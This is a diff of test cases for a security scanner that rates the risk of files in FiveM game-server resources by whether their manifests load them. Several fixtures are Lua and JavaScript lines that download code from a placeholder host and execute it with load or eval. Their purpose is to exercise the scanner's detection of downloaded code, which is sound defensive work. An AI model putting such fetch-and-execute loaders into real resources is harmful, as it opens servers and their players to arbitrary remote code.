@@ -235,3 +235,82 @@ test('code that no manifest loads is one step lower, except for Lua of an archiv
     'a.lua medium none lowered',
   ])
 })
+
+test.each([
+  ['is only a copy', `print('hello')`, 'medium none lowered'],
+  ['is read', `load(LoadResourceFile(GetCurrentResourceName(), 'old/a.lua'))()`, 'high none'],
+  ['may be read', `load(LoadResourceFile(GetCurrentResourceName(), pick() .. '.lua'))()`, 'high none'],
+  ['is opened', `io.open(GetResourcePath(GetCurrentResourceName()) .. '/old/a.lua')`, 'high none'],
+  ['is required', `require 'old.a'`, 'high none'],
+  ['may be required', `lib.load(pick())`, 'high none'],
+])('Lua of a resource that %s', (_, text, expected) => {
+  const old = "PerformHttpRequest('https://a.example', function(_, text) load(text)() end)"
+  const files = { 'r/fxmanifest.lua': manifest, 'r/server.lua': text, 'r/old/a.lua': old }
+
+  expect(severities(files).find((line) => line.startsWith('r/old/a.lua'))).toBe(`r/old/a.lua ${expected}`)
+})
+
+test('Lua that is not valid counts less where nothing loads it', () => {
+  const files = { 'r/fxmanifest.lua': manifest, 'r/server.lua': 'if (', 'r/notes.lua': 'if (' }
+
+  expect(severities(files)).toEqual(['r/server.lua medium server', 'r/notes.lua low none'])
+})
+
+test('a manifest that loads nothing makes no file count less, except for one inside of another resource', () => {
+  const manifestOnly = `fx_version 'cerulean'\ngame 'gta5'\nserver_scripts {{ 'server.lua' }}`
+
+  expect(severities({ 'r/fxmanifest.lua': manifestOnly, 'r/server.lua': 'if (' })).toContain(
+    'r/server.lua medium none',
+  )
+  expect(
+    severities({
+      'r/fxmanifest.lua': manifest,
+      'r/old/fxmanifest.lua': manifestOnly,
+      'r/old/server.main.lua': 'if (',
+    }),
+  ).toContain('r/old/server.main.lua low none')
+})
+
+test('a pack with several resources of the server is one', () => {
+  const names = ['hardcap', 'spawnmanager', 'chat', 'shop']
+  const pack = (count: number) =>
+    scan(Object.fromEntries(names.slice(-count).map((name) => [`${name}/fxmanifest.lua`, manifest])))
+      .findings.map(({ severity, path }) => `${severity} ${path}`)
+      .toSorted()
+
+  expect(pack(3)).toEqual(['medium chat/fxmanifest.lua', 'medium spawnmanager/fxmanifest.lua'])
+  expect(pack(4)).toEqual(['chat', 'hardcap', 'spawnmanager'].map((name) => `low ${name}/fxmanifest.lua`))
+})
+
+test('a page that is too complex says so, and its findings count less', () => {
+  const download = "fetch('https://a.example').then((answer) => answer.text()).then(eval)\n"
+  const manifestOfPage = `fx_version 'cerulean'\ngame 'gta5'\nui_page 'a.html'\nfiles { '*.js' }`
+  const read = (text: string) =>
+    scan({ 'fxmanifest.lua': manifestOfPage, 'a.js': text }).findings.map(
+      ({ rule, severity }) => `${severity} ${rule}`,
+    )
+
+  const library = `var data = [${'{}, '.repeat(300_000)}]`
+
+  expect(read(download)).toEqual(['medium runs-downloaded-code'])
+  expect(read(download + library)).toEqual(['medium not-fully-read', 'low runs-downloaded-code'])
+})
+
+test('a module of a computed name is one of its own resource', () => {
+  const manifestOfModules = `fx_version 'cerulean'\ngame 'gta5'\nserver_script 'main.js'`
+  const build = "fetch('https://a.example').then((answer) => answer.text()).then(eval)"
+  const files = {
+    'a/fxmanifest.lua': manifestOfModules,
+    'a/main.js': 'require(pick())',
+    'a/lib/x.js': build,
+    'b/fxmanifest.lua': manifestOfModules,
+    'b/main.js': '',
+    'b/tools/x.js': build,
+  }
+
+  expect(severities(files)).toEqual([
+    'a/lib/x.js high none',
+    'b/tools/x.js medium none lowered',
+    'a/main.js low server',
+  ])
+})
